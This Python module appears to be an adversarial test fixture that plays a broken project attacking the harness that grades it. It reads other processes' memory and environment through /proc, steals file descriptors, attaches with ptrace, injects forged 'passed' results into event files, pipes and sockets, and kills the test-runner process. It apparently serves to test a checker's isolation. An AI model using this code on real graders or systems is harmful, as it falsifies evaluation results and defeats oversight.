"""What a broken project may try at start, under the account of whoever checks it: written for ``tamper.py``.

It looks for what the judge and the process of the cases know, where anything of theirs can be read, opened or traced;
reports passes in their name wherever that is possible; ends the process of the cases, and reports again. What it could
lay hands on it notes in ``spoils.txt`` beside the project.
"""

import ctypes
import json
import os
import signal
import stat
import tempfile
import threading
import time
from pathlib import Path

KILLS, VICTIM = 0, "cases"  # how often which process is killed
SPOILS = Path.cwd().parent / "spoils.txt"
WANTED = "things.needs-a-door"
PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_DETACH, PIDFD_OPEN, PIDFD_GETFD = 0x4206, 0x4207, 17, 434, 438
WALL = 0x40000000
JUDGE = os.getppid()
libc = ctypes.CDLL(None, use_errno=True)
seen = set()


def note(what, process=0):
    if (what, process) not in seen:
        seen.add((what, process))
        with open(SPOILS, "a") as file:
            file.write(f"{what} {process}\n")


def forged(token=""):
    lines = b"{not json\n"
    for event, more in (("started", {}), ("finished", {"outcome": "passed", "message": "", "seconds": 0})):
        lines += json.dumps({"token": token, "event": event, "id": WANTED, **more}).encode() + b"\n"
    return lines


def files():
    """Event files with a token in them, and control sockets."""
    for path in Path(tempfile.gettempdir()).glob("scaffold-check-*/**/*"):
        if path.is_socket():
            note("socket")
        elif path.is_file():
            with path.open("rb+") as file:
                for line in file.read().splitlines():
                    if b'"token"' in line:
                        note("token")
                        if "runs" not in seen or "forged" in seen:
                            break
                        seen.add("forged")
                        file.seek(0, os.SEEK_END)
                        file.write(forged(json.loads(line)["token"]))
                        break


def parent_of(process):
    with open(f"/proc/{process}/stat", "rb") as file:
        return int(file.read().rpartition(b")")[2].split()[1])


def ours():
    """The judge, which has started us, and its processes of the cases, each with its name; nobody else's."""
    yield JUDGE, "judge"
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            above = parent_of(name)
            if JUDGE in (above, parent_of(above) if above > 1 else 0):
                with open(f"/proc/{name}/cmdline", "rb") as file:
                    if b"generator.contract.worker" in file.read():
                        yield int(name), "finder" if above == JUDGE else "cases"
        except OSError:
            continue


def pry(process):
    for what in ("environ", "mem"):
        try:
            with open(f"/proc/{process}/{what}", "rb") as file:
                if what == "environ" and not file.read():
                    continue
            note(what, process)
        except OSError:
            pass
    try:
        descriptors = os.listdir(f"/proc/{process}/fd")
    except OSError:
        descriptors = []
    for number in descriptors:
        note("fd", process)
        if int(number) < 3 or (process, number) in seen:
            continue  # the report itself goes to the first ones; and writing once will do
        seen.add((process, number))
        try:
            pipe = os.open(f"/proc/{process}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
            if stat.S_ISFIFO(os.fstat(pipe).st_mode):
                os.write(pipe, forged())
            os.close(pipe)
        except OSError:
            pass
    handle = libc.syscall(PIDFD_OPEN, process, 0)
    for number in range(3, 20):
        copy = libc.syscall(PIDFD_GETFD, handle, number, 0)
        if copy >= 0:
            note("pidfd", process)
            if stat.S_ISSOCK(os.fstat(copy).st_mode) and (process, copy) not in seen:
                seen.add((process, copy))
                try:
                    os.set_blocking(copy, False)
                    os.write(copy, forged())
                except OSError:
                    pass
            os.close(copy)
    os.close(handle)
    if ("ptrace", process) not in seen and libc.ptrace(PTRACE_SEIZE, process, 0, 0) == 0:
        note("ptrace", process)
        libc.ptrace(PTRACE_INTERRUPT, process, 0, 0)
        os.waitpid(process, WALL)
        libc.ptrace(PTRACE_DETACH, process, 0, 0)


def inherited():
    """What was left open for us: a socket, or a pipe beside our own outputs."""
    for name in map(int, os.listdir("/proc/self/fd")):
        try:
            mode = os.fstat(name).st_mode if name > 2 else 0
        except OSError:
            continue  # of the listing itself
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            note("inherited")


def attack(kills):
    while True:
        files()
        for process, what in list(ours()):
            pry(process)
            if what == VICTIM and kills > 0 and "runs" in seen:
                files()
                time.sleep(0.2)
                os.kill(process, signal.SIGINT if what == "judge" else signal.SIGKILL)
                kills -= 1
        time.sleep(0.05)


def watched(answers=Handler.do_GET):  # noqa: F821 (of server.py, which runs this)
    def do_get(handler):
        if handler.path == "/door":
            seen.add("runs")  # the case is under way, and stays so for a moment
            time.sleep(1)
        answers(handler)

    return do_get


inherited()
Handler.do_GET = watched()  # noqa: F821
threading.Thread(target=attack, args=(KILLS,), daemon=True).start()
